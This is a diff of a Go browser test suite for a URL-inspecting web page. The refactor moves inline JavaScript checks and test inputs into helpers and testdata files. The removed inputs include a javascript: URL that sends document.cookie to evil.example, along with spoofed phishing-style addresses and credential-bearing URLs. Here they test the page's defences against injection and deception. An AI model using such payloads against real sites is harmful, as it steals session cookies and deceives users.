@@ -98,12 +98,6 @@ func testFiles(t *testing.T, files map[string][]byte) {
 	}
 }
 
-// misleads asks whether what a person reads first has a word that not everybody knows, or says that all is well, and
-// whether the page shows what cannot be seen as it is.
-const misleads = `/\b(base|origin|URI|normal|reference|reads the same|to warn)\b/i.test(
-	all("header, form, #verdict").map(e => e.innerText)) ||
-	/[\u200b\u202e\u{e0041}]/u.test(document.querySelector("main").innerText)`
-
 // The page shows what testdata/answers.txt says, which says how to read it.
 func testAnswers(p *tab) {
 	p.run(`$("forms-section").open = true`)
@@ -122,7 +116,6 @@ func testAnswers(p *tab) {
 func testAnswer(p *tab, lines []string) {
 	text, base := testenv.Text(lines[0]), iri.IRI{}
 	p.enter(text, "")
-	const verdict = `$("verdict").className + ": " + $("status").textContent`
 	for _, line := range lines[1:] {
 		name, want, _ := strings.Cut(line, ": ")
 		want, isPrefix := strings.CutSuffix(testenv.Text(want), "…")
@@ -133,23 +126,22 @@ func testAnswer(p *tab, lines []string) {
 			p.enter(text, want)
 			continue
 		case "verdict":
-			got = p.text(verdict)
+			got = p.text("verdict()")
 		default:
-			got = p.text(`all(` + quote(name) + `).filter(e => e.checkVisibility())
-				.map(e => e.textContent.trim()).join(" | ")`)
+			got = p.text(`visible(` + quote(name) + `).map(e => e.textContent.trim()).join(" | ")`)
 		}
 		if got != want && !(isPrefix && strings.HasPrefix(got, want)) {
 			p.Errorf("%.80q: %s is %q, want %q", text, name, got, want)
 		}
 	}
-	got := p.text(verdict)
+	got := p.text("verdict()")
 	u, err := base.ParseLink(text)
 	_, none := u.Origin()
 	if strings.Contains(got, "Leads to ") && (err != nil || none != nil && u == u.ToURI() ||
 		!eval[bool](p, `URL.canParse($("text").value, $("base").value || undefined)`)) {
 		p.Errorf("%.80q: %q, but %v, %v", text, got, err, none)
 	}
-	if eval[bool](p, misleads) {
+	if eval[bool](p, "misleads()") {
 		p.Errorf("%.80q: what a person reads first misleads: %q", text, got)
 	}
 }
@@ -172,19 +164,16 @@ func testColors(p *tab) {
 // The page opens empty, with examples to choose. Each has an answer, and typing replaces it.
 func testExamples(p *tab) {
 	names := eval[[]string](p, `all("#examples optgroup option").map(e => e.value)`)
-	const start = `$("text").value + $("examples").value + all("#welcome button").filter(e => e.checkVisibility())
-		.map(e => e.textContent)`
-	if got := p.text(start); len(names) < 12 || got != strings.Join(names, ",") {
+	if got := p.text("fields()"); len(names) < 12 || got != strings.Join(names, ",") {
 		p.Errorf("of %q, the page shows %q at first", names, got)
 	}
 	p.do(chromedp.Click(chromedp.CSS("#welcome button")))
-	if got := p.text(`$("text").value`); got == "" || p.text(start) != got+names[0] {
+	if got := p.text(`$("text").value`); got == "" || p.text("fields()") != got+names[0] {
 		p.Errorf("the first example is %q", got)
 	}
 	seen := map[string]bool{}
 	for _, name := range names {
-		p.run(`$("examples").value = ` + quote(name) + `;
-			$("examples").dispatchEvent(new Event("input", { bubbles: true }))`)
+		p.run("pick(" + quote(name) + ")")
 		seen[p.text(`$("text").value`)] = true
 		if got := p.text(`$("verdict").className`); got == "" {
 			p.Errorf("example %q has no answer", name)
@@ -203,21 +192,13 @@ func testHostile(p *tab) {
 	for _, text := range testenv.Texts("testdata/hostile.txt") {
 		for _, fields := range [][2]string{{text, ""}, {text, "https://a.example/"}, {"b", text}, {text, text}} {
 			p.enter(fields[0], fields[1])
-			got := p.text(`[window.pwned ?? "", document.scripts.length,
-				all("img, svg, iframe, [onerror], [onload]").length].join()`)
-			if got != ",2,0" {
+			if got := p.text("injected()"); got != ",2,0" {
 				p.Fatalf("%q became HTML: %s", fields, got)
 			}
 		}
 	}
 	p.enter("https://א.example:80/ב/1?ג=ד#ה", "")
-	if !eval[bool](p, `(() => {
-		const left = e => e.getBoundingClientRect().left, range = document.createRange();
-		const parts = all(".part").map(left), [, letter, last] = all(".path code span span")[0].childNodes;
-		range.selectNode(last);
-		return parts.length === 6 && parts.every((x, i) => i === 0 || parts[i - 1] < x)
-			&& letter.textContent === "ב" && last.data === "/1" && left(letter) < left(range);
-	})()`) {
+	if !eval[bool](p, "isInOrder()") {
 		p.Error("the parts of an address in Hebrew, or the segments of its path, are not in their order")
 	}
 }
@@ -234,9 +215,7 @@ func testElsewhere(p *tab) {
 	defer other.Close()
 	for _, attempt := range []string{
 		`fetch("` + other.URL + `", { mode: "no-cors" }).then(() => "loaded", () => "stopped")`,
-		`new Promise(done => { const e = new Image(); e.onload = () => done("loaded"); e.onerror = () => done("stopped"); ` +
-			`e.src = "` + other.URL + `"; })`,
-		`(() => { try { document.body.innerHTML = "<b>"; return "HTML" } catch { return "stopped" } })()`,
+		`image("` + other.URL + `")`, "html()",
 	} {
 		if got := p.text(attempt); got != "stopped" || asked {
 			p.Errorf("%s: %s, and the server was asked: %t", attempt, got, asked)
@@ -273,10 +252,7 @@ func testLink(p *tab) {
 func testCopy(p *tab) {
 	p.run(`$("forms-section").open = true`)
 	p.enter("https://user:s3cret@EXAMPLE.com/?access_token=S3CRET#é"+strings.Repeat("a", 5000), "")
-	got := eval[[]string](p, `all("#verdict .use, #forms .use").filter(e => e.textContent.startsWith("Copy")).map(e => {
-		e.click();
-		return e.parentElement.querySelector(".cut").textContent === copied ? copied : "another text";
-	})`)
+	got := eval[[]string](p, "copies()")
 	if len(got) != 3 || slices.Contains(got, "another text") || strings.Contains(strings.ToLower(got[0]), "s3cret") {
 		p.Errorf("the buttons copy %.200q", got)
 	}
@@ -291,19 +267,7 @@ func testLong(p *tab) {
 		"https://" + strings.Repeat("a.", 120) + "example/":        "TD,TD",
 	} {
 		p.enter(text, "")
-		got := p.text(`all(".cut").filter(e => e.scrollHeight > e.clientHeight + 1).map(e => {
-			const [button, parent, finding] = [e.nextElementSibling, e.parentElement, e.querySelector("[tabindex]")];
-			const is = (isCut, label) => isCut === (getComputedStyle(e).webkitLineClamp !== "none") &&
-				button.textContent === label;
-			const wasCut = is(true, "Show all");
-			finding?.focus({ focusVisible: true });
-			const isReached = is(!finding, "Show all");
-			finding?.blur();
-			button.click();
-			const isShown = is(false, "Show less") && e.scrollHeight <= e.clientHeight + 1;
-			return wasCut && isReached && isShown ? parent.id || parent.className || parent.tagName : "not all is shown";
-		}).join()`)
-		testenv.Same(p, got, want, "what is cut of %.50q", text)
+		testenv.Same(p, p.text("cuts()"), want, "what is cut of %.50q", text)
 	}
 	p.enter("HTTPS://example.com/"+strings.Repeat("a", 200), "")
 	p.as(narrow, 800, false) // in the wider window, it is not cut
@@ -359,30 +323,21 @@ func testNarrow(p *tab) {
 	for _, width := range []int64{390, 412, narrow} {
 		p.as(width, 800, false)
 		p.enter("https://accounts.google.com.signin-verify.example/", "")
-		got := p.text(`all(".goes-on").filter(e => e.checkVisibility()).map(e => {
-			const [before, after] = [e.previousSibling, e.nextSibling].map(e => e.getBoundingClientRect().top);
-			return before === after ? "" : e.previousSibling.textContent.endsWith(".") ? "after a dot " :
-				e.getBoundingClientRect().width > 3 ? "sign " : "no sign ";
-		}).join("")`)
+		got := p.text("breaks()")
 		if len(got) < 3*len("sign ") || strings.ReplaceAll(got, "sign ", "") != "" {
 			p.Errorf("in %d pixels, hosts break %q", width, got)
 		}
 	}
 	for _, host := range []string{strings.Repeat("a-label.", 22) + strings.Repeat("w", 63), strings.Repeat("例", 15)} {
 		p.enter("https://"+host+"/", "")
-		got := p.text(`document.documentElement.scrollWidth + all("#status .label").map(e =>
-			e.getClientRects().length === 1 ? e.textContent : "a label that breaks").join("")`)
+		got := p.text("labels()")
 		top := eval[float64](p, `all(".parts")[0].getBoundingClientRect().top`)
 		if got != "360"+host || top > maxTop {
 			p.Errorf("the headline shows %q as %q, with the parts %.0f pixels below", host, got, top)
 		}
 	}
 	p.enter("HTTPS://Example.com@0X7F.1:443/a/%2E%2E/caf%c3%a9?a=%E2%80%8B%00", "")
-	tips := eval[[]float64](p, `all(".finding").map(e => {
-		e.focus();
-		const tip = e.querySelector(".tip").getBoundingClientRect();
-		return tip.width < 200 ? -1 : tip.top - e.querySelector(".place").getBoundingClientRect().bottom;
-	})`)
+	tips := eval[[]float64](p, "tips()")
 	if len(tips) < 6 || slices.Min(tips) < 0 || slices.Max(tips) > 15 {
 		p.Errorf("messages open %.1f pixels below their places, where -1 is a narrow one", tips)
 	}
@@ -404,15 +359,10 @@ func testAxe(p *tab) {
 			p.as(width, 800, isDark)
 			p.open("")
 			p.run(string(axe))
-			for _, text := range []string{"https://paypal.com%2Flogin:443@203.0.113.7/", "www.example.com",
-				`javascript:fetch("https://evil.example/"+document.cookie)`,
-				"https://xn--80ak6aa92e.com/", "a b/[x]|y", "https://user:s3cret@example.com/?access_token=S3CRET",
-				"http://good.example;.evil.example/", "HTTPS://a.example@0x7f.1:8/a%2fb?a=%20\u200b#b", "", "#",
-				"https://example.com/" + strings.Repeat("a", 6000)} {
+			for _, text := range testenv.Texts("testdata/axe.txt") {
 				p.enter(text, text)
 				p.run(`$("link").click(), all("details").forEach(e => { e.open = true; })`)
-				for _, f := range eval[[]string](p,
-					`axe.run().then(r => r.violations.map(v => v.impact + ": " + v.id + ": " + v.nodes.map(n => n.html).join(" ")))`) {
+				for _, f := range eval[[]string](p, "violations()") {
 					p.Errorf("%.80q, %d pixels, dark %t: %.500s", text, width, isDark, f)
 				}
 			}
@@ -425,8 +375,7 @@ func testAxe(p *tab) {
 func testDense(p *tab) {
 	p.as(narrow, 800, false)
 	most := 0
-	for _, piece := range []string{"1", "é", "\u200b", "\u200ba", "\u202ea\u2066", "%00a", "a=b&", "%00=%00&", "aא", "../",
-		"{a", "#", "\ufffda", "password=a&", "a∕", "\u0301", "а1.", "xn--a.", "\t", "?", "(", "-", "«", "例", "\U0001f600"} {
+	for _, piece := range testenv.Texts("testdata/dense.txt") {
 		for _, before := range []string{"https://", "https://a.example/", "https://a.example/?"} {
 			shown := 0
 			for _, count := range []int{15_900 / len(piece), 290, 145, 70} {
@@ -436,8 +385,7 @@ func testDense(p *tab) {
 					break
 				}
 			}
-			size := eval[[]int](p, `[all("*").length, document.documentElement.scrollWidth,
-				document.documentElement.scrollHeight]`)
+			size := eval[[]int](p, "size()")
 			if most = max(most, size[0]); shown == 0 || size[0] > maxNodes || size[1] > narrow ||
 				before != "https://" && size[2] > maxHeight {
 				p.Errorf("%q after %q is shown %d times; elements, width and height are %d", piece, before, shown, size)
